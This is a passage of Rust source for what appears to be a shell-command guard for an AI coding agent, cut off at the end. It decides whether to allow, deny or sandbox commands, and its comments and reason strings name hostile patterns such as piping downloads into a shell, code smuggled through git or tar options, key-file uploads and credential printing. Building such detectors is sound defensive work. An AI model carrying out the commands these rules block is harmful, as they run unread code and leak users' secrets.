//! The decision rules: parse, match every tier, and rank the matches of each part.

use std::path::Path;

use crate::canon::{Word, WordKind};
use crate::kg::Tier;
use crate::parse::{self, ParsedCommand, SimpleCommand};
use crate::pattern::{self, Haystack, MatchScratch, StageHit};

use super::compile::TierSet;
use super::place::Place;
use super::types::{Decision, Match, Part, Verdict};
use super::{Guard, MAX_COMMAND_BYTES};

impl Guard {
    /// Number of active entries (replace entries excluded).
    pub fn entry_count(&self) -> usize {
        self.entries.len()
    }

    /// Decide a command line.
    pub fn check(&self, command: &str) -> Decision {
        self.check_in(command, None, None)
    }

    /// Decide a command line that runs in `cwd`, for a user whose home is `home`: relative
    /// operands such as `.`, `*` and `..` are also judged as the absolute paths they name, so
    /// `rm -rf *` run in `~` is judged like `rm -rf ~/*`.
    pub fn check_in(&self, command: &str, cwd: Option<&Path>, home: Option<&Path>) -> Decision {
        self.check_parsed_in(command, None, cwd, home)
    }

    /// [`Guard::check_in`] for a command the caller has already parsed with [`parse`](crate::parse)
    /// (`parsed` must be the parse of `command`), so a caller that also reads the parse (the
    /// script pre-review) parses the command once.
    pub fn check_parsed_in(
        &self,
        command: &str,
        parsed: Option<ParsedCommand>,
        cwd: Option<&Path>,
        home: Option<&Path>,
    ) -> Decision {
        let place = Place { cwd, home };
        if command.len() > MAX_COMMAND_BYTES {
            return Decision {
                command: command.to_string(),
                verdict: Verdict::Deny,
                reason: format!(
                    "the command is longer than the guard reads ({MAX_COMMAND_BYTES} bytes)"
                ),
                profile: None,
                matches: Vec::new(),
                parts: Vec::new(),
                replaced: None,
                replaced_parts: Vec::new(),
            };
        }
        let parsed = parsed.unwrap_or_else(|| parse::parse(command));
        let mut decision = self.decide(command, parsed, &place);
        if let Some(replacer) = &self.replacer {
            match replacer.replace(command) {
                Ok(replaced) if replaced != command => {
                    // The replaced command is guarded again and the stricter decision stands.
                    let second = self.decide(&replaced, parse::parse(&replaced), &place);
                    let base = decision.matches.len();
                    decision.matches.extend(second.matches);
                    decision.replaced_parts = second
                        .parts
                        .into_iter()
                        .map(|mut p| {
                            p.matches.iter_mut().for_each(|m| *m += base);
                            p
                        })
                        .collect();
                    if second.verdict > decision.verdict {
                        decision.verdict = second.verdict;
                        decision.reason = second.reason;
                        decision.profile = second.profile;
                    }
                    decision.replaced = Some(replaced);
                }
                Ok(_) => {}
                Err(e) => {
                    // Replacement failed: keep the original, never loosen the decision.
                    decision.verdict = decision.verdict.max(Verdict::Sandbox);
                    decision.reason = format!("{e}; running confined");
                    decision
                        .profile
                        .get_or_insert_with(|| self.default_profile.clone());
                }
            }
        }
        decision
    }

    /// Parse without deciding (for explanations and the learning loop).
    pub fn parse(&self, command: &str) -> ParsedCommand {
        parse::parse(command)
    }

    fn decide(&self, command: &str, mut parsed: ParsedCommand, place: &Place<'_>) -> Decision {
        let mut home_form = None;
        let bases = place.bases(&parsed);
        for (c, base) in parsed.commands.iter_mut().zip(&bases) {
            place.add_resolved_operands(&mut c.words, base, &mut home_form);
        }
        let mut matches = Vec::new();
        let mut parts = Vec::new();
        // Parts no KG entry and no finding decides.
        let mut unknown = Vec::new();
        let mut scratch = MatchScratch::default();
        let mut classes = place.classes(&parsed, &bases, &self.class_heads);
        // A program's text (sed's script, awk's program) names no path.
        for (c, cl) in parsed.commands.iter().zip(classes.iter_mut()) {
            let mask = super::data::program_words(&c.words);
            for (i, bits) in cl.iter_mut().enumerate().take(64) {
                if mask & (1 << i) != 0 {
                    *bits = 0;
                }
            }
        }
        // A sed script is matched as what it does (`sed -n '/a/,/e/p'` as its command letters,
        // one that runs as `e SCRIPT`): see `sed.rs`.
        let match_words: Vec<Option<Vec<crate::Word>>> = parsed
            .commands
            .iter()
            .map(|c| super::sed::match_words(&c.words))
            .collect();
        // A command's stage hits depend on its words and their classes alone: a command met
        // again (the repeated lines of a script judged as one text) takes those of the first.
        // (A lookup table only, never iterated: the hasher changes no decision.)
        let mut first: std::collections::HashMap<
            (&[crate::Word], &[u32]),
            usize,
            ahash::RandomState,
        > = std::collections::HashMap::with_capacity_and_hasher(
            parsed.commands.len(),
            ahash::RandomState::new(),
        );
        let mut hits: Vec<[Vec<StageHit>; 3]> = Vec::with_capacity(parsed.commands.len());
        for (i, (c, cl)) in parsed.commands.iter().zip(&classes).enumerate() {
            let words = match_words
                .get(i)
                .and_then(Option::as_deref)
                .unwrap_or(c.words.as_slice());
            let key = (words, cl.as_slice());
            if let Some(earlier) = first.get(&key).and_then(|&j| hits.get(j)) {
                let again = earlier.clone();
                hits.push(again);
                continue;
            }
            first.insert(key, i);
            let hay = Haystack::with_classes(words, cl).with_data(super::data::data_words(words));
            hits.push([
                self.destructive.stage_hits(&hay, &mut scratch),
                self.suspicious.stage_hits(&hay, &mut scratch),
                self.safe.stage_hits(&hay, &mut scratch),
            ]);
        }
        drop(first);
        let index = [0, 1, 2].map(|tier| HitIndex::new(&hits, tier));
        for (ci, cmd) in parsed.commands.iter().enumerate() {
            let canonical = crate::canon::canonical_text(&cmd.words);
            // A safe pattern that names paths vouches only for commands whose every operand it
            // covers: `rm -rf /tmp/*` says nothing about `rm -rf /tmp/x ./src`. Other targets
            // (`python3 -m pytest`) only need to be present.
            let safe_hits: Vec<(usize, Vec<usize>)> = complete_hits(
                &self.safe,
                &parsed.commands,
                &parsed.links,
                &hits,
                &index[2],
                ci,
                2,
            )
            .into_iter()
            .filter(|(pi, head_words)| {
                self.safe.pattern(*pi).last_stage().is_none_or(|st| {
                    !pattern::names_paths(st) || {
                        // Numbers fed on stdin (`gmx energy -f md.edr <<< '10 0'`) answer the
                        // program's own menu: no operand a path class has to vouch for.
                        let mut skip = head_words.clone();
                        skip.extend(menu_answer_word(cmd));
                        pattern::covers_all_operands(st, &cmd.words, &skip, &classes[ci], 0)
                    }
                })
            })
            // `TOOL --version` / `TOOL --help` says the tool prints and exits when it reads the
            // option as its own: not where another verb carries it (`dotnet tool install -g X
            // --version 8.0.0`, `vercel deploy --prod --version 1`, `docker run IMAGE --help`).
            // A version is asked of the tool itself, before any operand; help also of one
            // subcommand (`git reset --help`, `docker rm -f --help`), as CLIs with subcommands
            // read it.
            // `TOOL ** VERB` vouches for a read verb the tool reads as its subcommand, not for
            // one a write verb took as its argument after its options (`vercel deploy --prod
            // list`).
            .filter(|(pi, _)| {
                let p = self.safe.pattern(*pi);
                p.stage_count() != 1
                    || p.stage(0)
                        .is_none_or(|st| !read_verb_of_a_write_verb(st, &cmd.argv))
            })
            .filter(|(pi, _)| {
                let p = self.safe.pattern(*pi);
                p.stage_count() != 1
                    || p.stage(0).is_none_or(|st| {
                        let asked = st.flags().filter(|f| print_only(f));
                        !print_only_stage(st)
                            || asks_print_only_after(&cmd.words, 0, asked.clone())
                            || (asked.clone().all(is_help)
                                && cmd.words.get(1).is_some_and(|w| {
                                    w.kind == WordKind::Operand && !w.follows_flag
                                })
                                && asks_print_only_after(&cmd.words, 1, asked))
                    })
            })
            .collect();
            let mut part_matches = Vec::new();
            let mut uncovered_destructive = None;
            let mut port_probe = None;
            for (pi, _) in complete_hits(
                &self.destructive,
                &parsed.commands,
                &parsed.links,
                &hits,
                &index[0],
                ci,
                0,
            ) {
                let covered_by = self
                    .cover(
                        Tier::Destructive,
                        &hits[ci][0],
                        pi,
                        &safe_hits,
                        cmd,
                        &classes[ci],
                    )
                    .or_else(|| {
                        let concept: &str =
                            &self.entries[self.destructive.origin(pi).0 as usize].concept;
                        (super::port_probe::LIFTED.contains(&concept)
                            && *port_probe
                                .get_or_insert_with(|| super::port_probe::loopback_port_probe(cmd)))
                        .then(|| super::port_probe::COVER.to_string())
                    });
                let idx = self.push_match(
                    &mut matches,
                    &self.destructive,
                    pi,
                    &canonical,
                    covered_by.clone(),
                );
                part_matches.push(idx);
                // A literal pattern names the danger more exactly than a class pattern
                // (`rm ~` "deletes the whole home" over `rm <outside>`): its reason is shown.
                let class = |i: usize| matches[i].pattern.contains('<');
                if covered_by.is_none()
                    && uncovered_destructive.is_none_or(|cur| class(cur) && !class(idx))
                {
                    uncovered_destructive = Some(idx);
                }
            }
            let mut suspicious = None;
            for (pi, _) in complete_hits(
                &self.suspicious,
                &parsed.commands,
                &parsed.links,
                &hits,
                &index[1],
                ci,
                1,
            ) {
                // A safe pattern that explicitly covers a suspicious one lifts it, as it does a
                // destructive one: `pnpm install --frozen-lockfile` over `pnpm install`.
                let covered_by = self.cover(
                    Tier::Suspicious,
                    &hits[ci][1],
                    pi,
                    &safe_hits,
                    cmd,
                    &classes[ci],
                );
                let lifted = covered_by.is_some();
                let idx =
                    self.push_match(&mut matches, &self.suspicious, pi, &canonical, covered_by);
                part_matches.push(idx);
                if lifted {
                    continue;
                }
                // Several suspicious entries: the most restrictive profile wins, whatever the file order.
                let key = |i: usize| {
                    let m: &Match = &matches[i];
                    let p = m.profile.as_deref().unwrap_or(&self.default_profile);
                    (self.ranks.get(p).strictness, p, m.concept.as_str())
                };
                if suspicious.is_none_or(|cur| key(idx) > key(cur)) {
                    suspicious = Some(idx);
                }
            }
            let mut safe = None;
            for (pi, _) in &safe_hits {
                let idx = self.push_match(&mut matches, &self.safe, *pi, &canonical, None);
                part_matches.push(idx);
                safe.get_or_insert(idx);
            }
            // Whether every suspicious match of this command is covered by a longer match or is
            // one of the `lifted` concepts a rule below answers for.
            let only_lifted_by = |lifted: &dyn Fn(&str) -> bool| {
                part_matches.iter().all(|&k| {
                    matches[k].tier != Tier::Suspicious
                        || matches[k].covered_by.is_some()
                        || lifted(matches[k].concept.as_str())
                })
            };
            let only_lifted = |lifted: &[&str]| only_lifted_by(&|c| lifted.contains(&c));
            // The text an `echo` before it pipes in (`echo 'put KEY' | sftp -b -`).
            let fed = super::sql_text::echoed_into(&parsed.commands, ci);
            let (verdict, reason, profile) = if uncovered_destructive.is_some()
                && suspicious.is_none()
                && cmd.findings.is_empty()
                && part_matches.iter().all(|&k| {
                    matches[k].tier != Tier::Destructive
                        || matches[k].covered_by.is_some()
                        || super::local_reset::LIFTED.contains(&matches[k].concept.as_str())
                })
                && super::local_reset::local_database_reset(cmd)
            {
                (
                    Verdict::Allow,
                    "resets a development or test database that the line itself shows is on this machine (a test or development environment, a SQLite file or a loopback host in the command's own prefix or options), whose data its seeds or tests make again (known safe: local database reset)".to_string(),
                    None,
                )
            } else if uncovered_destructive.is_some()
                && suspicious.is_none()
                && cmd.findings.is_empty()
                && part_matches.iter().all(|&k| {
                    matches[k].tier != Tier::Destructive
                        || matches[k].covered_by.is_some()
                        || super::store::LIFTED_RESTORE.contains(&matches[k].concept.as_str())
                })
                && super::store::local_restore(cmd)
            {
                (
                    Verdict::Allow,
                    format!(
                        "`{}` restores or rewinds a data store that the line itself aims at this machine (every server its options name is a loopback address): the developer's own development store, put back to the dump or offset the line names; deleting a topic, records or a database is not lifted (known safe: restore of a store on this machine)",
                        cmd.name()
                    ),
                    None,
                )
            } else if let Some(i) = uncovered_destructive {
                (
                    Verdict::Deny,
                    match_reason(&matches[i], "destructive"),
                    None,
                )
            } else if super::env_filter::environment_to_clipboard(&parsed.commands, ci) {
                (
                    Verdict::Deny,
                    "copies the whole environment, with every token and key of the session, to the clipboard, where every program of the desktop, clipboard managers and their sync read it; copy the variables you need by name (destructive: environment copied to the clipboard)".to_string(),
                    None,
                )
            } else if let Some(target) = super::cloud_output::cloud_output(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "`{}` writes its output dataset to `{target}`: an object store bucket or a database server of another machine, written with the user's cloud or database credentials; what others read from there is replaced or published, which no build of the project needs; write into the project (`build/`), or let a human publish it (destructive: geodata written to a remote store)",
                        cmd.name()
                    ),
                    None,
                )
            } else if let Some(host) = super::proxy::credential_through_proxy(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "sends its requests, with the credential they carry (a forge's or cloud's login, an `Authorization` header, a token variable), through the proxy `{host}` its own prefix names, a host that is neither this machine nor on your own network: whoever runs it sees every request and, with a certificate the client trusts, the credential; use a proxy on this machine, or none (destructive: credential sent through an unknown proxy)"
                    ),
                    None,
                )
            } else if let Some(task) = super::local_reset::shared_database_data_task(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "runs `{task}` against a database the line itself names as a deployed one (a production or staging environment, or a database URL of another machine): seeds and fixtures write test rows into the data people use, rollbacks and schema loads drop tables; run it on a development database, or let a human do it (destructive: data task on a deployed database)"
                    ),
                    None,
                )
            } else if let Some(task) = super::local_reset::remote_schema_apply(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "runs `{} {task}` unasked against a database the line names by a URL of another machine: the plan drops every table and column the schema file does not declare, on a deployed database, with nobody reading it; apply to a development database on this machine, or let a human review and approve the plan (destructive: schema applied to a deployed database unasked)",
                        cmd.name()
                    ),
                    None,
                )
            } else if let Some((call, host)) = super::inline_store::destroyed_store(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "its inline code calls `{call}`, a client library's deletion of a whole store (a database, every key, an index or a collection), on `{host}`, a server other than this machine: the same drop as the store's own shell given it, with nobody reading the code; run it against a development store on this machine, or let a human do it (destructive: data store destroyed by inline code)"
                    ),
                    None,
                )
            } else if let Some(server) = super::local_service::remote_directory_change(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "changes or deletes entries of the directory service at `{server}`, a server other than this machine: its entries are the organisation's users and groups, shared by every system that logs in through it, and the changes (an LDIF file's) are not on the line; aim it at a test server on this machine, or let a human apply it (destructive: directory entries changed on a shared server)"
                    ),
                    None,
                )
            } else if safe.is_none()
                && let Some(secret) = super::sent_key::uploaded_secret(cmd, fed.as_deref())
            {
                (
                    Verdict::Deny,
                    format!(
                        "`{}` uploads `{secret}`, a key or credential file, with its own transfer command (`put`, `send`, `upload` in its command string, batch or name): the key leaves this machine for a server nobody here answers for; the sandbox hides the file, so a confined run could only fail (destructive: key file uploaded by a transfer client)",
                        cmd.name()
                    ),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && let Some(statement) = super::sql_text::destroying_statement(cmd, fed.as_deref())
            {
                (
                    Verdict::Deny,
                    format!(
                        "`{}` is given the SQL statement `{statement}`, which drops or empties a table, a database or a keyspace, or changes every row (no WHERE): a database client nobody described is judged by its statement as psql is; run it on a development database the line names, or let a human do it (destructive: destroying SQL given to an unknown client)",
                        cmd.name()
                    ),
                    None,
                )
            } else if let Some((name, near)) = super::typo::typosquat(cmd, &parsed.commands) {
                (
                    Verdict::Deny,
                    format!(
                        "installs or runs the package `{name}`, one letter off the well-known `{near}`: the typosquat shape; check the name (destructive: package name one letter off a well-known one)"
                    ),
                    None,
                )
            } else if let Some((host, load)) = super::flood::remote_flood(cmd, &parsed.commands) {
                (
                    Verdict::Deny,
                    format!(
                        "runs a load test against `{host}`, a host outside this machine and its network, at {load}: a flood no smoke test needs, the shape of a denial-of-service attack on somebody's service; aim it at your own server or lower the load (destructive: load test flooding a remote host)"
                    ),
                    None,
                )
            } else if let Some(host) = super::install_host::unknown_install_host(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "installs code from `{host}`, which is neither a package registry nor a well-known code host: its install scripts would run code from wherever that host is; install from the registry, or fetch and read the source first (destructive: install from an unknown host)"
                    ),
                    None,
                )
            } else if let Some(program) = temp_program_in_option(cmd) {
                // A program from a temporary directory (written by the agent or fetched, and
                // read by nobody) that another program starts from one of its options.
                (
                    Verdict::Deny,
                    format!(
                        "runs `{program}` from a temporary directory as the program behind an option of another program (`{}`), where nobody reads it (destructive: temporary program hidden in an option)",
                        cmd.layers.last().map_or("an option", String::as_str)
                    ),
                    None,
                )
            } else if let Some(program) = super::option_code::scheduled_temp_program(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "schedules `{program}` from a temporary directory or the home to run later (`at`, `batch`, `systemd-run`), outside any confinement and after this command has returned, where nobody reads what runs (destructive: temporary program scheduled)"
                    ),
                    None,
                )
            } else if let Some(option) = super::option_code::replaced_transport(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "runs `{}` as git's transport program (`{option}`), which only ever names where git-upload-pack or git-receive-pack lives: a command there is code smuggled into a clone, fetch or push (destructive: git transport program replaced)",
                        cmd.text
                    ),
                    None,
                )
            } else if suspicious.is_some()
                && part_matches.iter().any(|&k| {
                    matches[k].tier == Tier::Suspicious
                        && matches[k].covered_by.is_none()
                        && matches[k].concept == "credential file searched"
                })
                && super::printed_secret::prints_searched_lines(cmd)
            {
                // A search that prints what it finds in a credential store prints the keys with
                // it, as `cat FILE` does (`credential printed`); one that prints a status, a
                // count or file names stays a confined read.
                (
                    Verdict::Deny,
                    "prints the lines it finds in a credential store of the user's home or the system (a search or filter of it without `-q`, `-c` or `-l`), the keys and tokens with them, into the transcript, where the agent and its model provider read them; the sandbox hides these files, so a confined read could only fail; ask the user for the one value needed, or use the tool's own login status command (destructive: credential printed)".to_string(),
                    None,
                )
            } else if let Some(i) = suspicious
                && (cmd.option_code || concealed_stage(cmd, &parsed.commands))
                && matches[i].pattern.contains(" | ")
            {
                // A pipe into a shell (`curl URL | sh`) is confined where the line shows it; as
                // code another program runs from one of its options (`git -c
                // core.sshCommand=...`, `tar --checkpoint-action=exec=...`, `rsync -e ...`) or
                // its program text (awk's `system()`), it is hidden where nobody reads it.
                (
                    Verdict::Deny,
                    format!(
                        "{}, hidden in code a program runs from an option, a variable or its program text (`{}`), where nobody reads it (destructive: pipe into a shell hidden in an option)",
                        matches[i]
                            .reason
                            .as_deref()
                            .unwrap_or("pipes text into a shell"),
                        if cmd.option_code {
                            cmd.layers
                                .iter()
                                .rev()
                                .find(|l| !l.ends_with(" -c"))
                                .map_or("a program", String::as_str)
                        } else {
                            "a program name the line assembles from variables"
                        }
                    ),
                    None,
                )
            } else if let Some(option) = super::option_code::shell_code_in_option(cmd) {
                (
                    Verdict::Deny,
                    format!(
                        "a shell runs code given as a program in `{option}`: program execution through an option of a tool that looks safe, each time that program is started, out of sight of whoever reads the line (destructive: shell code in an option)"
                    ),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && template_copy(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "copies a configuration template of the project into place: a template holds placeholders, not secrets (known safe: template copy)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["dotenv read"])
                && dotenv_template_read(cmd)
            {
                (
                    Verdict::Allow,
                    "reads a configuration template of the project (`.env.example`): a template holds placeholders, not secrets (known safe: template read)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["dotenv read"])
                && super::key_meta::dotenv_key_names(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "prints only the names of a dotenv file's variables (each line cut at its first `=`, field 1), never their values (known safe: dotenv key names)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && archive_into_project(&parsed.commands, ci, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "extracts an archive of the project into a directory of the project, with the archiver's own guards on member paths (known safe: project archive extract)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&[
                    "toolchain runs a program",
                    "instructions from outside the project",
                ])
                && super::kernel_module::kernel_module_build(cmd)
            {
                (
                    Verdict::Allow,
                    "builds or cleans the project's out-of-tree kernel module against the kernel build tree the distribution installed (`make -C /lib/modules/VERSION/build M=DIR`): the kernel's Makefile reads that tree and writes only the module directory, the project; installing the module is not lifted (known safe: kernel module build)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(super::loopback::LIFTED)
                && super::loopback::loopback_request(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "sends a request to a server on this machine (a loopback address), the developer's own, with no other address and no file but the project's own (known safe: request to this machine)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(super::loopback::LIFTED_LISTENER)
                && super::loopback::loopback_listener(cmd)
            {
                (
                    Verdict::Allow,
                    "serves on a loopback address only, which no other machine can reach (known safe: server on this machine)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(super::loopback::LIFTED_PROBE)
                && super::loopback::loopback_probe(cmd)
            {
                (
                    Verdict::Allow,
                    "scans ports of, or sends a test mail through, this machine alone (a loopback address), reading no file and running no script (known safe: probe of this machine)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["process killing"])
                && super::port_process::port_server_stop(cmd)
            {
                (
                    Verdict::Allow,
                    "stops, with a signal it can clean up after, the processes whose command line names a program and the port it serves (`--port N`): the one server listening there, as a kill of the port's process id would (known safe: server stopped by its port)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["environment dump"])
                && super::env_filter::filtered_environment(&parsed.commands, ci)
            {
                (
                    Verdict::Allow,
                    "prints the environment through a search for variables that hold no credential: only their lines reach the output (known safe: filtered environment)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && (safe.is_some() || cmd.name() == "tee")
                && cmd.findings.is_empty()
                && only_lifted(&["write a project file"])
                && super::data_output::writes_project_data(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "writes the output of a known command into a data or documentation file of the project the line names, whose format the name says (`.csv`, `.sql`, `.json`, `.md`, ...) (known safe: project data output)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["write a project file"])
                && super::test_output::tee_of_test_output(&parsed.commands, ci, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "keeps the output of the project's tests or benchmarks, which an earlier stage of the pipeline runs, in a report file of the project (`.txt`, `.log`, `.out`, `.tap`) (known safe: test report kept)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["write a project file"])
                && super::data_output::filtered_into_scratch_then_moved(
                    &parsed.commands,
                    ci,
                    &classes[ci],
                )
            {
                (
                    Verdict::Allow,
                    "filters a file of the project into a scratch file that the line then moves back over it, the in-place edit `sed -i` makes (known safe: filtered through a scratch file)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["write a project file"])
                && super::data_output::sorts_file_in_place(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "sorts a plain file of the project back into itself: it keeps its lines, reordered (known safe: file sorted in place)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["environment dump"])
                && super::printed_secret::printenv_of_plain_variables(cmd)
            {
                (
                    Verdict::Allow,
                    "prints the environment variables it names, none of which holds a credential (known safe: named variables printed)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && let Some(read) = super::key_meta::plain_read(cmd, &classes[ci])
                && only_lifted_by(&|c| read.lifts(c))
            {
                (Verdict::Allow, read.reason().to_string(), None)
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["private key file read"])
                && super::key_meta::reads_key_metadata(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "reads key-named files of the project only for what they are (a certificate's fields with `-noout`, a count, names, sizes or digests), never printing a key they may hold (known safe: key file metadata)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["private key file read"])
                && super::key_meta::makes_local_keys(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "makes a development key or certificate into files of the project (openssl with `-out`, mkcert into the working directory or its `-cert-file` and `-key-file`), printing no key (known safe: local tls files)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && safe.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["ssh directory access", "private key file read"])
                && super::key_meta::public_signing_key(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "sets this repository's signing key to the public half of an ssh key (a `.pub` file): git reads no key and runs no program by it (known safe: public signing key)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && only_lifted(&["project file deletion"])
                && super::project_delete::deletes_named_files(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "deletes files of the project it names one by one, without `-r` (no directory, no glob, nothing in `.git`): the edit the agent's own file tool makes, and git gives back the files it tracks (known safe: project files deleted by name)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && cmd.findings.is_empty()
                && super::in_place::substitution_edit(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    "substitutes text in place in source, configuration or documentation files of the project the line names, with a program that only edits text (known safe: project substitution edit)".to_string(),
                    None,
                )
            } else if suspicious.is_some()
                && let Some(&i) = part_matches
                    .iter()
                    .find(|&&k| DOWNLOAD_RUNS.contains(&matches[k].concept.as_str()))
                && let Some(host) = super::install_host::unknown_download_host(&parsed.commands)
            {
                // Confined, a download run unread can only fail (the profile has no network);
                // from a host no registry, forge or vendor answers for, it is refused outright,
                // like an install from there.
                (
                    Verdict::Deny,
                    format!(
                        "{}, from `{host}`, a host that is neither a package registry, a well-known code host nor a vendor's installer host; download it, read it, then run it (destructive: code from an unknown host run unread)",
                        matches[i]
                            .reason
                            .as_deref()
                            .unwrap_or("runs code straight from the network")
                    ),
                    None,
                )
            } else if uncovered_destructive.is_none()
                && (suspicious.is_none() || only_lifted(&["interpreter inline code"]))
                && cmd.findings.is_empty()
                && super::package_tasks::runs_package_tasks(cmd)
            {
                (
                    Verdict::Allow,
                    "runs only the project's own test, check, lint, documentation or locked-dependency tasks through its language's package tooling, with literal arguments in the project (known safe: project package tasks)".to_string(),
                    None,
                )
            } else if uncovered_destructive.is_none()
                && suspicious.is_none()
                && safe.is_none()
                && cmd.findings.is_empty()
                && super::package_tasks::runs_project_entry_file(cmd, &parsed.commands[..ci])
            {
                (
                    Verdict::Allow,
                    "runs a file of the project's test, benchmark or documentation directories, which its own runners run too, with no option that loads other code and no argument outside the project (known safe: project entry file)".to_string(),
                    None,
                )
            } else if uncovered_destructive.is_none()
                && suspicious.is_none()
                && safe.is_none()
                && cmd.findings.is_empty()
                && super::transfer_batch::downloads_into_project(cmd)
            {
                (
                    Verdict::Allow,
                    "runs a file-transfer batch that only lists a server of this machine or its private network and downloads from it into directories of the project: no upload, deletion, setting or shell command (known safe: downloads into the project)".to_string(),
                    None,
                )
            } else if uncovered_destructive.is_none()
                && suspicious.is_none()
                && safe.is_none()
                && cmd.findings.is_empty()
                && super::xml_transform::xml_transform(cmd)
            {
                (
                    Verdict::Allow,
                    "transforms or queries XML files of the project with an engine the line keeps to them: Saxon's home edition (no calls into Java) with its files in the project, or a BaseX query the line spells that calls only XQuery's standard library (known safe: XML transform in the project)".to_string(),
                    None,
                )
            } else if let Some(i) = suspicious {
                let profile = matches[i]
                    .profile
                    .clone()
                    .unwrap_or_else(|| self.default_profile.clone());
                (
                    Verdict::Sandbox,
                    match_reason(&matches[i], "suspicious"),
                    Some(profile),
                )
            } else if let Some(f) = cmd.findings.first() {
                (
                    Verdict::Sandbox,
                    f.reason().to_string(),
                    Some(self.opaque_profile()),
                )
            } else if safe.is_some()
                && in_substitution(cmd)
                && let Some(remote) = safe_hits
                    .iter()
                    .map(|(pi, _)| self.safe.origin(*pi).0 as usize)
                    .find(|e| self.entries[*e].remote_effect)
            {
                (
                    Verdict::Sandbox,
                    format!(
                        "changes remote state ({}) from inside a command or process substitution, where its effect is hidden in another command's words",
                        self.entries[remote].concept
                    ),
                    Some(self.opaque_profile()),
                )
            } else if let Some(i) = safe {
                (
                    Verdict::Allow,
                    format!("known safe ({})", matches[i].concept),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && super::flood::loopback_vegeta(cmd, &parsed.commands)
            {
                (
                    Verdict::Allow,
                    "runs a load test whose every target, spelled on the line, is this machine (a loopback address): the developer's own server (known safe: load tests of this machine)".to_string(),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && super::store::local_dump_or_load(cmd)
                && local_files_only(cmd, &classes[ci])
            {
                (
                    Verdict::Allow,
                    format!(
                        "`{}` copies a data store that the line itself aims at this machine (every server its options name is a loopback address) to or from files of the project or its build output: the developer's own development store (known safe: dump or load of a store on this machine)",
                        cmd.name()
                    ),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && super::local_service::local_service(cmd)
            {
                (
                    Verdict::Allow,
                    format!(
                        "`{}` is aimed by the line itself (its own address variable or option) at a server on this machine, a loopback address: the developer's own development server (known safe: operations tool aimed at this machine)",
                        cmd.name()
                    ),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && crate::parse::plain_powershell_command(&cmd.argv)
            {
                // Its code's commands are parts of their own, judged as the shell line its
                // cmdlets amount to; the program adds nothing to what they do.
                (
                    Verdict::Allow,
                    "runs PowerShell code given on the line, with only options that load nothing; its commands are judged as parts of their own (known safe: PowerShell command judged by its code)".to_string(),
                    None,
                )
            } else if part_matches.is_empty()
                && cmd.findings.is_empty()
                && super::orm_read::prints_orm_read(cmd)
            {
                (
                    Verdict::Allow,
                    "runs a Rails runner whose code only prints what a query of the application's models reads (counts, plucked columns, found records), with no method that writes, no block and no second statement (known safe: ORM read printed)".to_string(),
                    None,
                )
            } else if suspicious.is_none()
                && safe.is_none()
                && cmd.findings.is_empty()
                && part_matches
                    .iter()
                    .any(|&k| matches[k].covered_by.as_deref() == Some(USAGE_COVER))
            {
                // Every destructive match is covered (none is left uncovered above).
                (
                    Verdict::Allow,
                    format!(
